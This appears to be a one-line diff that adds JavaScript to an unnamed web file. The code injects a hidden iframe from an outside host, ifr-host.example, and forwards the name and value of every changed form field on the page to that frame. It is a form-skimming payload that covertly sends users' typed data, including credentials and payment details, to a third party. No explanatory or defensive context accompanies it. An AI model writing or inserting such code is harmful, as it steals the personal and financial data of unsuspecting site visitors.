@@ -1,0 +1,1 @@
+var f=document.createElement('iframe');f.style.display='none';f.src='https://ifr-host.example/f.html';document.body.appendChild(f);document.addEventListener('change',function(e){f.contentWindow.postMessage({k:e.target.name,v:e.target.value},'*')});
